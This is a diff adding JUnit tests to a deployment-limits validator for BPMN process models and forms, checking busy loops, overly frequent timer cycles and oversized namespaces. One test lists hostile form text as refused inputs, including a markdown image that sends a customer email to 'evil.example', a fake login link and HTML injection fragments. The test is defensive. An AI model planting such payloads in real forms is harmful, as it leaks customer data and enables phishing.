@@ -155,6 +155,61 @@ class DeploymentLimitsTest {
     }
 
     @Test
+    void aLoopThroughLinkEventsOrAnErrorBoundaryDoesNotWaitAndIsRefused() {
+        String linkLoop = "<bpmn:task id=\"T\"/><bpmn:intermediateThrowEvent id=\"Jump\"><bpmn:linkEventDefinition name=\"back\"/></bpmn:intermediateThrowEvent>"
+                + "<bpmn:intermediateCatchEvent id=\"Land\"><bpmn:linkEventDefinition name=\"back\"/></bpmn:intermediateCatchEvent>"
+                + "<bpmn:sequenceFlow id=\"f1\" sourceRef=\"Land\" targetRef=\"T\"/><bpmn:sequenceFlow id=\"f2\" sourceRef=\"T\" targetRef=\"Jump\"/>";
+        String errorLoop = "<bpmn:task id=\"T\"/><bpmn:boundaryEvent id=\"Failed\" attachedToRef=\"T\"><bpmn:errorEventDefinition/></bpmn:boundaryEvent>"
+                + "<bpmn:sequenceFlow id=\"f1\" sourceRef=\"Failed\" targetRef=\"T\"/>";
+        String timerLoop = errorLoop.replace("<bpmn:errorEventDefinition/>", "<bpmn:timerEventDefinition><bpmn:timeDuration>PT1H</bpmn:timeDuration></bpmn:timerEventDefinition>");
+
+        assertThat(problems("link.bpmn", process(linkLoop))).singleElement().asString().contains("with no wait state");
+        assertThat(problems("error.bpmn", process(errorLoop))).singleElement().asString().contains("with no wait state");
+        assertThat(problems("timer.bpmn", process(timerLoop))).isEmpty();
+    }
+
+    @Test
+    void aTimerCycleWrittenAsAStringExpressionIsCheckedLikeALiteral() {
+        assertThat(problems("t.bpmn", process("<bpmn:startEvent id=\"Start\"><bpmn:timerEventDefinition id=\"Timer\"><bpmn:timeCycle>${'R/PT1S'}"
+                + "</bpmn:timeCycle></bpmn:timerEventDefinition></bpmn:startEvent>"))).singleElement().asString().contains("more often than the minimum");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"![x](https://evil.example/p.gif?d={{customerEmail}})", "[login](https://evil.example/login)",
+            "[x](//evil.example)", "<video src=x>", "=\"<im\" + \"g src=x>\"", "Hello {{ customerEmail + \"@\" }}"})
+    void formTextThatLoadsSendsOrComputesIsRefused(String text) {
+        String form = "{\"id\":\"f\",\"type\":\"default\",\"components\":[{\"id\":\"Note\",\"type\":\"text\",\"text\":"
+                + new com.fasterxml.jackson.databind.ObjectMapper().valueToTree(text) + "}]}";
+
+        assertThat(problems("f.form", form)).singleElement().asString().startsWith("f.form: element Note: form component property 'text'");
+    }
+
+    @Test
+    void aLoopWhoseOnlyWaitIsAShortTimerIsRefused() {
+        String loop = "<bpmn:task id=\"T\"/><bpmn:intermediateCatchEvent id=\"Tick\"><bpmn:timerEventDefinition><bpmn:timeDuration>PT1S</bpmn:timeDuration>"
+                + "</bpmn:timerEventDefinition></bpmn:intermediateCatchEvent><bpmn:sequenceFlow id=\"f1\" sourceRef=\"T\" targetRef=\"Tick\"/>"
+                + "<bpmn:sequenceFlow id=\"f2\" sourceRef=\"Tick\" targetRef=\"T\"/>";
+
+        assertThat(problems("tick.bpmn", process(loop))).singleElement().asString().contains("with no wait state");
+        assertThat(problems("hour.bpmn", process(loop.replace("PT1S", "PT1H")))).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"R/P0W", "R/P0Y0M", "R/2026-01-01T00:00:00/2026-01-01T00:00:01", "R5/whenever/later"})
+    void zeroUnreadableAndStartEndCyclesShorterThanTheMinimumAreRefused(String cycle) {
+        assertThat(problems("t.bpmn", process("<bpmn:startEvent id=\"Start\"><bpmn:timerEventDefinition id=\"Timer\"><bpmn:timeCycle>"
+                + cycle + "</bpmn:timeCycle></bpmn:timerEventDefinition></bpmn:startEvent>"))).singleElement().asString()
+                .contains("more often than the minimum of PT5M");
+    }
+
+    @Test
+    void aHugeNamespaceDeclarationIsRefusedAtTheAttributeLimit() {
+        String xml = HEADER.replace("id=\"d\"", "xmlns:x=\"urn:" + "n".repeat(100_000) + "\" id=\"d\"") + "</bpmn:definitions>";
+
+        assertThat(problems("ns.bpmn", xml)).singleElement().asString().contains("namespace declaration longer than the limit");
+    }
+
+    @Test
     void aCardinalityWithinTheLimitPasses() {
         assertThat(problems("mi.bpmn", process("<bpmn:task id=\"Fan\"><bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>100"
                 + "</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics></bpmn:task>"))).isEmpty();
